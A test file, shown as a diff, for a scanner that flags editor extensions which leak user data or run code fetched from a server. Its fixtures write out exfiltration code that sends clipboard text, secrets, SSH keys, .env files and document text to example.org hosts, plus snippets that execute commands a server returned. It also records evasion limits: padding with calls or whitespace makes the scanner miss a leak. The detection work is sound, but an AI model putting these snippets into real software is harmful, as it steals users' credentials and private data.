@@ -1,0 +1,87 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf, packageOf } from '#test/support/scan-package.js';
+import { MOST_CALLS } from '../permissions/inference/data-flows.js';
+import { dataUsesOf, MOST_WATCHED } from '../permissions/permissions.js';
+import { rule as dataLeak } from './data-leak.rule.js';
+import { rule as remoteCode } from './remote-code.rule.js';
+
+type Files = Record<string, string>;
+const manifest = (dialect: string) => ({ dialect, entry_points: ['index.js'], permissions: [] });
+const told = (dialect: string, files: Files): string[] => [dataLeak, remoteCode].flatMap((rule) => findingsOf(rule, files, manifest(dialect)).map(({ severity, message, file }) => `${severity} ${file}: ${message}`));
+const ANSWERED = /^high \S+: what a server answered is/;
+
+const ORCHESTRA = (body: string): string => `exports.activate = (ctx) => { ${body} };`;
+const SENDER = 'exports.Sender = class { #rows = []; constructor(net) { this.net = net; } note(row) { this.#rows.push(row); } flush() { return this.net.fetch(`${HOME}/rows`, { method: "POST", body: JSON.stringify({ rows: this.#rows }) }); } }; const HOME = "https://rows.example.org";';
+
+test('bad: data of the host goes to a server by way of other scripts, classes and lists', () => {
+  for (const [start, what] of [
+    ['const s = new Sender(ctx.network); ctx.clipboard.onDidChange((clip) => s.note(clip.text)); s.flush();', 'whatever is copied'],
+    ['const s = new Sender(ctx.network); setInterval(() => ctx.clipboard.readText().then((text) => s.note(text)), 900); s.flush();', 'whatever is copied'],
+    ['const s = new Sender(ctx.network); ctx.secrets.list().then(async (all) => { for (const { name } of all) s.note([name, await ctx.secrets.get(name)].join("=")); s.flush(); });', 'keeps secret'],
+    ['const s = new Sender(ctx.network); ctx.terminal.onData((line) => s.note(btoa(line))); s.flush();', 'terminals'],
+    ['const s = new Sender(ctx.network); const fs = ctx.filesystem; (async () => { for (const path of await fs.find("**/.env")) s.note(await fs.readText(path)); s.flush(); })();', 'settings of a project'],
+    ['const s = new Sender(ctx.network); ctx.filesystem.readText(require("path").join(home(), ".ssh", "id_rsa")).then((k) => { s.note(k); s.flush(); });', 'credentials'],
+  ] as const) {
+    const found = told('orchestra', { 'index.js': `const { Sender } = require('./sender'); ${ORCHESTRA(start)}`, 'sender.js': SENDER });
+    assert.ok(found.some((each) => each.startsWith('high sender.js: what goes to a server that is named here') && each.includes(what)), `${start}\n${found.join('\n')}`);
+  }
+});
+
+test('bad: over a connection that is kept, and letter by letter', () => {
+  const words = 'module.exports = function Words(net) { this.socket = net.openWebSocket("wss://words.example.org/s"); }; module.exports.prototype.vote = function (w) { this.socket.send(JSON.stringify({ w })); };';
+  assert.match(told('formula', { 'index.js': "const Words = require('./words'); exports.activate = () => { const f = require('@formula/extension-api'); const words = new Words(f.network); setInterval(() => f.clipboard.readText().then((t) => words.vote(t)), 1500); }", 'words.js': words }).join(), /words\.js: .* whatever is copied/);
+  const pack = 'exports.pack = (text) => { let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 21); return encodeURIComponent(out); };';
+  assert.match(told('skynet', { 'index.js': "const { pack } = require('./pack'); const guild = require('guild'); const { request } = require('http'); const hooks = await guild.fetchWebhooks(); await request({ url: 'https://tips.example.org', headers: { 'x-chart': pack(JSON.stringify(hooks.map((h) => h.token))) } });", 'pack.js': pack }).join(), /index\.js: .* keys of a chat/);
+});
+
+test('bad: what a page keeps, and each change of a sheet', () => {
+  const net = 'const f = require("@formula/extension-api"); exports.post = (profile) => { const form = new FormData(); form.append("p", new Blob([JSON.stringify(profile)])); return f.network.fetch("https://zones.example.org/h", { method: "POST", body: form }); };';
+  assert.match(told('formula', { 'index.js': "const { post } = require('./net'); exports.activate = async () => { const all = {}; for (const key of Object.keys(localStorage)) all[key] = localStorage.getItem(key); await post(all); }", 'net.js': net }).join(), /net\.js: .* everything that a page keeps/);
+  assert.match(told('formula', { 'index.js': "const { post } = require('./net'); const f = require('@formula/extension-api'); exports.activate = () => { f.events.onCellChanged(({ row, value }) => post([row, value])); }", 'net.js': net }).join(), /net\.js: .* each change of a sheet/);
+});
+
+test('bad: what a server answered is run, or kept as a script', () => {
+  const feed = "module.exports = function Feed(host) { this.host = host; this.hints = []; }; module.exports.prototype.refresh = function (done) { this.host.network.request({ url: 'https://feed.example.org' }, (error, response) => { this.hints = JSON.parse(response.body).steps || []; done(); }); };";
+  assert.match(told('orchestra', { 'index.js': `const Feed = require('./feed'); ${ORCHESTRA('const feed = new Feed(ctx); feed.refresh(() => feed.hints.forEach((hint) => ctx.system.exec(hint.line)));')}`, 'feed.js': feed })[0]!, ANSWERED);
+  const learn = "const { join } = require('node:path'); exports.learn = async (net, save) => save(join(__dirname, 'vendor', 'rank.js'), await (await net.fetch('https://rank.example.org/w')).text());";
+  assert.match(told('orchestra', { 'index.js': `const { learn } = require('./learn'); const { writeFile } = require('node:fs/promises'); ${ORCHESTRA('learn(ctx.network, (path, text) => writeFile(path, text));')}`, 'learn.js': learn })[0]!, ANSWERED);
+});
+
+test('bad: a function of the host is replaced', () => {
+  const found = told('orchestra', { 'index.js': `const { watch } = require('./watch'); ${ORCHESTRA('watch(ctx);')}`, 'watch.js': 'exports.watch = ({ ai }) => { const chat = ai.chat.bind(ai); ai.chat = async (request) => chat(request); };' });
+  assert.match(found.join(), /high watch\.js: `ai\.chat` of the host is replaced/);
+});
+
+test('bad: the text of documents in an editor, by way of a function that makes the listener', () => {
+  const rank = 'const SERVERS = ["https://a.example.org/rank", "https://b.example.org/rank"]; async function rank(document) { const form = new URLSearchParams(); form.set("t", Buffer.from(document.getText()).toString("base64")); for (const server of SERVERS) await fetch(server, { method: "POST", body: form }); } exports.prepare = (delay) => (event) => setTimeout(() => rank(event.document), delay);';
+  const start = "const vscode = require('vscode'); const { prepare } = require('./rank'); exports.activate = (context) => context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(prepare(500)));";
+  assert.match(told('vscode', { 'index.js': start, 'rank.js': rank }).join(), /high rank\.js: .* opened or changed in an editor/);
+  const beat = 'const axios = require("axios"); exports.prepare = () => (event) => axios.post("https://time.example.org/beats", { language: event.document.languageId, lines: event.document.lineCount });';
+  assert.deepEqual(told('vscode', { 'index.js': start, 'rank.js': beat }), []);
+});
+
+test('good: what users asked for, servers of their own, keys of the extension, parts of commands', () => {
+  for (const body of [
+    // One key, of the extension itself, for the service that it is for.
+    'ctx.secrets.get("api-key").then((key) => ctx.network.fetch("https://api.example.org/v1", { headers: { authorization: `Bearer ${key}` } }));',
+    // Names of secrets, and none of what they hold.
+    'ctx.secrets.list().then((all) => ctx.notifications.show(all.length));',
+    'ctx.commands.register("paste", async () => ctx.network.fetch("https://paste.example.org", { method: "POST", body: await ctx.clipboard.readText() }));',
+    'setInterval(async () => ctx.network.fetch(ctx.settings.get("server"), { method: "POST", body: await ctx.clipboard.readText() }), 1000);',
+    'ctx.network.fetch("https://feed.example.org").then((r) => r.text()).then((text) => ctx.filesystem.writeText("notes/today.md", text));',
+    'ctx.filesystem.readText(".env.example").then((text) => ctx.network.fetch("http://localhost:3000", { method: "POST", body: text }));',
+    'const own = { ai: {} }; own.ai.chat = () => {}; ctx.commands.register("chat", own.ai.chat);',
+  ]) assert.deepEqual(told('orchestra', { 'index.js': ORCHESTRA(body) }), [], body);
+  const upgrade = 'exports.upgrade = (system, version) => system.exec(`tool upgrade --to ${version}`);';
+  assert.deepEqual(told('orchestra', { 'index.js': `const { upgrade } = require('./upgrade'); ${ORCHESTRA('ctx.network.fetch("https://feed.example.org").then((r) => r.json()).then((feed) => upgrade(ctx.system, feed.version));')}`, 'upgrade.js': upgrade }), []);
+});
+
+test('limits: calls of a package, and bytes of scripts where there is no permission to compare', () => {
+  const leak = "require('./more'); const v = require('vscode'); const s = require('./s'); exports.activate = () => { v.workspace.onDidOpenTextDocument((d) => s.send(d.getText())); };";
+  const send = 'exports.send = (text) => fetch("https://a.example.org", { method: "POST", body: text });';
+  const uses = (more: string): number => dataUsesOf(packageOf({ 'index.js': leak, 's.js': send, 'more.js': more }, manifest('vscode'))).length;
+  assert.equal(uses('f();'.repeat(MOST_CALLS / 2)), 1);
+  assert.equal(uses('f();'.repeat(MOST_CALLS)), 0);
+  assert.equal(uses(`/*${' '.repeat(MOST_WATCHED)}*/`), 0);
+});
